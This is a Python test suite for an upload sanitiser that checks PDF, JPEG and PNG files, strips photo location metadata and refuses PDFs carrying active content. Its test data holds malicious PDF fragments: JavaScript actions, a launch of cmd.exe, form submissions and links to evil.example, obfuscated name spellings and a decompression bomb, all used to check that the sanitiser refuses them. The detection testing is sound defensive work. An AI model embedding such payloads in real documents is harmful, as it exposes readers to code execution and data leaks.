"""What is kept as a document is what its bytes say, whole, and without what a camera wrote beside it."""

import tracemalloc
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as properties
from hypothesis import strategies as st
from stage.papers import jpeg, pdf, png

from teleward.records.documents import pictures
from teleward.records.documents.limits import MOST_BYTES, MOST_UNFOLDED
from teleward.records.documents.pdf import check_pdf
from teleward.records.documents.problems import (
    DocumentEmpty,
    DocumentRefused,
    DocumentTooLarge,
    HoldsProgram,
    KindUnknown,
    Locked,
    NameMisleads,
    SecondFile,
    TooManyDots,
    Truncated,
)
from teleward.records.documents.sniffing import Kind, sound

Make = Callable[[], bytes]
OBJECTS = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    ("make", "kind"), [(pdf, Kind.PDF), (jpeg, Kind.JPEG), (png, Kind.PNG)], ids=["pdf", "jpeg", "png"]
)
def test_a_document_is_known_by_its_bytes_whatever_it_is_called(make: Make, kind: Kind) -> None:
    assert sound(content=make()).kind is kind
    assert sound(content=make(), name=f"scan.{kind.value.rpartition('/')[2]}").kind is kind


@pytest.mark.parametrize("name", ["letter.pdf.exe", "letter.png", "C:\\scans\\letter.jpg", "letter.html"])
def test_a_name_that_ends_otherwise_is_refused(name: str) -> None:
    with pytest.raises(NameMisleads):
        sound(content=pdf(), name=name)


@pytest.mark.parametrize(
    "content",
    [
        b"<html><script>",
        b"PK\x03\x04",
        b"MZ\x90",
        b"GIF89a",
        b"\n%PDF-1.7",
        b"<svg xmlns=",
        b"\xff\xd8",
        b"BM",
    ],
    ids=["html", "zip", "exe", "gif", "late pdf", "svg", "two bytes", "bmp"],
)
def test_nothing_else_is_kept(content: bytes) -> None:
    with pytest.raises(KindUnknown):
        sound(content=content)


def test_what_is_empty_or_too_large_is_refused() -> None:
    with pytest.raises(DocumentEmpty):
        sound(content=b"")
    with pytest.raises(DocumentTooLarge):
        sound(content=pdf().ljust(MOST_BYTES + 1))


@pytest.mark.parametrize("make", [pdf, jpeg, png], ids=["pdf", "jpeg", "png"])
def test_a_file_without_its_end_is_refused(make: Make) -> None:
    whole = make()
    for part in (len(whole) // 2, len(whole) - 8):
        with pytest.raises(Truncated):
            sound(content=whole[:part])


def test_where_and_when_a_photo_was_taken_is_removed_and_which_way_is_up_stays() -> None:
    whole = jpeg(way_up=6, place=b"N52.5200 E13.4050", comment=b"Ayse at home")
    kept = sound(content=whole).content
    assert b"52.5200" in whole
    assert b"52.5200" not in kept
    assert b"at home" not in kept
    assert kept[3] == pictures.EXIF
    assert pictures._way_up(kept[12:]) == 6
    assert sound(content=kept).content == kept


def test_a_pictures_texts_are_removed_and_its_dots_stay() -> None:
    whole = png(text=b"Location\0Berlin")
    kept = sound(content=whole).content
    assert b"Berlin" in whole
    assert kept == png()


@pytest.mark.parametrize("make", [jpeg, png], ids=["jpeg", "png"])
def test_what_hides_behind_a_picture_goes(make: Make) -> None:
    assert sound(content=make() + b"PK\x03\x04 a whole archive").content == make()


@pytest.mark.parametrize(
    "tail", [b"PK\x03\x04 more", b"<html>", pdf()[:-6]], ids=["zip", "html", "half a pdf"]
)
def test_a_pdf_with_something_behind_it_is_refused(tail: bytes) -> None:
    with pytest.raises((SecondFile, Truncated)):
        sound(content=pdf() + tail)


def test_an_archive_that_ends_like_a_pdf_is_refused() -> None:
    with pytest.raises(SecondFile):
        sound(content=pdf(b"PK\x05\x06" + bytes(18)))


@pytest.mark.parametrize("spelled", [b"/Encrypt 5 0 R", b"/Encr#79pt 5 0 R"], ids=["plain", "spelled"])
def test_a_pdf_with_a_password_is_refused(spelled: bytes) -> None:
    with pytest.raises(Locked):
        sound(content=pdf(b"trailer << " + spelled + b" >>"))


FLATE, AT_8 = b"/Filter /FlateDecode", b"<< /OpenAction 8 0 R >>"


def untyped(objects: bytes, said: bytes) -> bytes:
    """A stream of objects that does not say what it is."""
    return folded(objects, said).replace(b"/Type /ObjStm", b"")


def folded(objects: bytes, said: bytes = b"/Filter /FlateDecode") -> bytes:
    """A stream of objects."""
    return b"7 0 obj << /Type /ObjStm /N 1 " + said + b" >> stream\r\n" + objects + b"\nendstream endobj"


@pytest.mark.parametrize(
    "inside",
    [
        b"<< /S /JavaScript /JS (x) >>",
        b"<< /S /Java#53cript >>",
        b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>",
        b"<< /OpenAction << /S /GoToR /D [0 /Fit] /F (\\\\evil.example\\share\\x.pdf) >> >>",
        b"<< /OpenAction << /S /GoTo#45 /F (\\\\evil.example\\share\\x.pdf) >> >>",
        b"<< /OpenAction << /S /SubmitForm /F (https://evil.example/) >> >>",
        b"<< /OpenAction << /S /ImportData /F (x.fdf) >> >>",
        b"<< /Type /EmbeddedFile >>",
        folded(zlib.compress(OBJECTS)),
        folded(zlib.compress(OBJECTS), b"/Filter [/FlateDecode]"),
        folded(OBJECTS, b""),
        folded(OBJECTS.hex().encode(), b"/Filter /ASCIIHexDecode"),
        folded(zlib.compress(b"harmless"), b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
        folded(zlib.compress(bytes(17 * 1024 * 1024))),
        folded(zlib.compress(OBJECTS)).replace(b"stream\r\n", b" (endobj) >> stream\r\n", 1),
        b"<< /OpenAction << /S /URI /URI (https://evil.example/) >> >>",
        b"<< /OpenAction 8 0 R >> 8 0 obj [3 0 R /Fit] endobj 8 0 obj << /S /URI /URI (x) >> endobj",
        b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 9 0 R >> >>",
        b"<< /OpenAction << /X << /S /GoTo >> /S /URI /URI (https://evil.example/) >> >>",
        b"<< /OpenAction 8 0 R >>"
        + folded(zlib.compress(b"8 0 << /S /URI /URI (x) >>"), FLATE + b" /First 4"),
        b"<< /AA << /O << /S /URI /URI (https://evil.example/) >> >> >>",
        b"<< /S /Rendition /JS (app.alert(1)) >>",
        b"<< /EF << /F 9 0 R >> >>",
        untyped(zlib.compress(OBJECTS), FLATE + b" /First 4"),
        untyped(zlib.compress(OBJECTS), FLATE + b" /First 4 /X (7 0 obj)"),
        untyped(OBJECTS, b"/Filter /LZWDecode /First 4"),
    ],
    ids=[
        "script",
        "spelled",
        "launch",
        "network-path",
        "network-path-spelled",
        "form-sent",
        "data-brought",
        "file",
        "folded",
        "listed",
        "unfolded",
        "hex",
        "predictor",
        "bomb",
        "misled",
        "opens a page of the web",
        "opens it elsewhere",
        "goes on after a page",
        "pretends to be a page",
        "opens what is folded",
        "when a page is seen",
        "sound and script",
        "file without its type",
        "folded, and not called so",
        "folded, its place hidden",
        "folded otherwise, and not called so",
    ],
)
def test_a_pdf_with_a_program_in_it_is_refused(inside: bytes) -> None:
    with pytest.raises(HoldsProgram):
        sound(content=pdf(inside))


def test_a_pdf_whose_folded_objects_are_harmless_is_kept_as_it_is() -> None:
    whole = pdf(folded(zlib.compress(b"1 0 << /Type /Page >>")))
    assert sound(content=whole).content == whole


@pytest.mark.parametrize(
    "inside",
    [
        b"<< /OpenAction [3 0 R /Fit] >>",
        b"<< /OpenAction 8 0 R >> 8 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj",
        AT_8 + folded(zlib.compress(b"8 0 [3 0 R /Fit]"), FLATE + b" /First 4"),
        b"7 0 obj << /Length 9 >> stream\n/JS /AA /EF\nendstream endobj",
        b"<< /First 8 0 R /Title (An object) >> 9 0 obj << /Filter /DCTDecode >> stream\nx\nendstream",
    ],
    ids=["page", "step", "folded step", "letters in a picture", "outline"],
)
def test_a_pdf_that_opens_at_a_page_of_its_own_is_kept(inside: bytes) -> None:
    whole = pdf(inside)
    assert sound(content=whole).content == whole


class Counted(bytes):
    """Bytes that know how many of them were taken out, one slice at a time."""

    taken = 0

    def __getitem__(self, place: Any) -> Any:
        found = super().__getitem__(place)
        self.taken += len(found)
        return found

    def rfind(self, *place: Any) -> int:
        _what, start, end = (*place, 0, len(self))[:3]
        self.taken += end - start
        return super().rfind(*place)


@pytest.mark.parametrize(
    "inside",
    [
        b"stream\n" * 40_000,
        b"9 0 obj << /Type /ObjStm >> stream\n" * 8_000 + b"endstream endobj",
        (folded(zlib.compress(bytes(9)))[:-17] + b"\n") * 5_000,
        b"/ObjStm" * 500 + b" stream\n" * 30_000 + b"endstream",
    ],
    ids=["bare", "unfolded", "folded", "misled"],
)
def test_a_small_pdf_cannot_ask_for_more_work_than_its_size_is_worth(inside: bytes) -> None:
    whole = Counted(pdf(inside))
    tracemalloc.start()
    try:
        with pytest.raises(HoldsProgram):
            check_pdf(whole)
        _now, most_held = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert whole.taken < 6 * MOST_UNFOLDED
    assert most_held < 4 * len(whole)


def test_a_picture_that_would_unfold_to_gigabytes_is_refused() -> None:
    with pytest.raises(TooManyDots):
        sound(content=jpeg(width=60_000, height=60_000))
    with pytest.raises(TooManyDots):
        sound(content=png(width=2**31 - 1, height=2**31 - 1))


def test_a_changed_byte_in_a_png_is_noticed() -> None:
    whole = bytearray(png())
    whole[20] ^= 1
    with pytest.raises(Truncated):
        sound(content=bytes(whole))


@properties(max_examples=80)
@given(st.data())
def test_whatever_comes_is_kept_cleaned_or_refused_and_nothing_breaks(data: st.DataObject) -> None:
    whole = data.draw(st.sampled_from([pdf(), jpeg(place=b"N52"), png(text=b"a\0b")]))
    place = data.draw(st.integers(2, len(whole)))
    noise = data.draw(st.binary(max_size=12))
    try:
        kept = sound(content=whole[:place] + noise + whole[place + data.draw(st.integers(0, 9)) :])
    except DocumentRefused:
        return
    assert sound(content=kept.content) == kept
